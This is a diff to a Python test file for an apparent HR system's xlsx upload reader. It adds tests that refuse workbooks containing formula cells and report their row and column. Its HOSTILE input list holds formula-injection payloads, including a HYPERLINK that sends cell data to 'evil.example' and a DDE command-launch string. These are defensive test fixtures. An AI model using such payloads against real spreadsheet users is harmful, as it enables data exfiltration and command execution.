@@ -10,7 +10,8 @@ import zipfile
 import openpyxl
 import pytest
 
-from hrflow.core.xlsx import MAX_ROW_CELLS, UploadRefused, Writer, read_upload, workbook_bytes
+from hrflow.core import xlsx
+from hrflow.core.xlsx import MAX_ROW_CELLS, FormulaCells, UploadRefused, Writer, column_letters, read_upload, workbook_bytes
 
 HOSTILE = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", '=HYPERLINK("http://evil.example/?x="&A1,"点我")', "=cmd|' /C calc'!A0",
            "http://example.com", "0012345", "1e5"]
@@ -45,8 +46,9 @@ SHEET_HEAD = b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://sc
 SHEET_TAIL = b"</sheetData></worksheet>"
 
 
-def crafted_xlsx(chunks, *, compression=zipfile.ZIP_DEFLATED, dimension=None) -> bytes:
-    """An xlsx whose first sheet's <sheetData> is the concatenation of `chunks` (bytes)."""
+def crafted_xlsx(chunks, *, compression=zipfile.ZIP_DEFLATED, dimension=None, tail=b"") -> bytes:
+    """An xlsx whose first sheet's <sheetData> is the concatenation of `chunks` (bytes);
+    `tail` goes after </sheetData> (extLst and the like)."""
     buffer = io.BytesIO()
     with zipfile.ZipFile(buffer, "w", compression) as archive:
         archive.writestr("[Content_Types].xml", CONTENT_TYPES)
@@ -60,7 +62,7 @@ def crafted_xlsx(chunks, *, compression=zipfile.ZIP_DEFLATED, dimension=None) ->
             sheet.write(head)
             for chunk in chunks:
                 sheet.write(chunk)
-            sheet.write(SHEET_TAIL)
+            sheet.write(SHEET_TAIL.replace(b"</worksheet>", tail + b"</worksheet>"))
     return buffer.getvalue()
 
 
@@ -236,3 +238,62 @@ def test_a_document_type_declaration_is_refused():
                 content = content.replace(b"?>", b"?>" + laughs, 1)
             target.writestr(info.filename, content)
     assert refused(buffer.getvalue())[0].message == "文件不是 xlsx 工作簿。"
+
+
+# --- Formula cells ------------------------------------------------------------------------
+
+# Excel 2010+ keeps a drop-down that lists another sheet in extLst, as <xm:f>: not a cell.
+EXT_VALIDATION = (
+    b'<extLst><ext uri="{CCE6A557-97BC-4b89-ADB6-D9C93CAAB3DF}" '
+    b'xmlns:x14="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main">'
+    b'<x14:dataValidations xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main" count="1">'
+    b'<x14:dataValidation type="list"><x14:formula1><xm:f>Lists!$A$1:$A$2</xm:f></x14:formula1>'
+    b'<xm:sqref>A2:A50000</xm:sqref></x14:dataValidation></x14:dataValidations></ext></extLst>'
+)
+
+
+def test_a_formula_cell_is_refused_naming_its_row_and_column_not_read_as_its_cached_value():
+    # As Excel saves =1+1 typed into B3: the formula and its cached result "2", which
+    # openpyxl's data_only reading would hand over as the value.
+    data = crafted_xlsx([
+        text_row(["a", "b", "c"], r=1), text_row(["x", "y", "z"], r=2),
+        b'<row r="3"><c r="A3" t="inlineStr"><is><t>x</t></is></c><c r="B3"><f>1+1</f><v>2</v></c></row>',
+        # Without references a cell follows the one before it: this formula is in C4.
+        b'<row r="4"><c><v>1</v></c><c><v>1</v></c><c t="str"><f t="shared" ref="C4:C5" si="0">A4&amp;B4</f><v>11</v></c></row>',
+    ], tail=EXT_VALIDATION)
+    error = refused(data)[0]
+    assert isinstance(error, FormulaCells)
+    assert error.cells == [(3, 2), (4, 3)] and error.count == 2
+    assert error.row == 3 and error.message == "第3行B列：单元格是公式，请直接填写内容。"
+
+
+@pytest.mark.filterwarnings("ignore:Data Validation extension is not supported")
+def test_formulas_outside_the_template_columns_and_in_extensions_are_not_read_and_not_refused():
+    data = crafted_xlsx([
+        text_row(["a", "b", "c"], r=1),
+        b'<row r="2"><c r="A2" t="inlineStr"><is><t>x</t></is></c><c r="D2"><f>A2</f><v>0</v></c>'
+        b'<c r="AA2"><f>1+1</f><v>2</v></c></row>',
+    ], tail=EXT_VALIDATION)
+    assert read_upload(io.BytesIO(data), columns=3, max_rows=10) == [("a", "b", "c"), ("x", None, None)]
+
+
+def test_formula_cells_are_named_up_to_a_cap_and_counted_beyond_it(monkeypatch):
+    monkeypatch.setattr(xlsx, "MAX_FORMULA_CELLS", 2)
+    data = crafted_xlsx([text_row(["a", "b", "c"], r=1)] + [f'<row r="{r}"><c r="A{r}"><f>1</f><v>1</v></c></row>'.encode()
+                                                              for r in range(2, 7)])
+    error = refused(data)[0]
+    assert error.cells == [(2, 1), (3, 1)] and error.count == 5
+
+
+def test_a_workbook_written_by_openpyxl_with_a_formula_is_refused():
+    book = openpyxl.Workbook()
+    book.active.append(["a", "b", "c"])
+    book.active.append(["x", "=1+1", "z"])
+    buffer = io.BytesIO()
+    book.save(buffer)
+    assert refused(buffer.getvalue())[0].cells == [(2, 2)]
+
+
+@pytest.mark.parametrize("column, letters", [(1, "A"), (3, "C"), (26, "Z"), (27, "AA"), (16384, "XFD")])
+def test_column_letters(column, letters):
+    assert column_letters(column) == letters and xlsx._column_number(f"{letters}7") == column
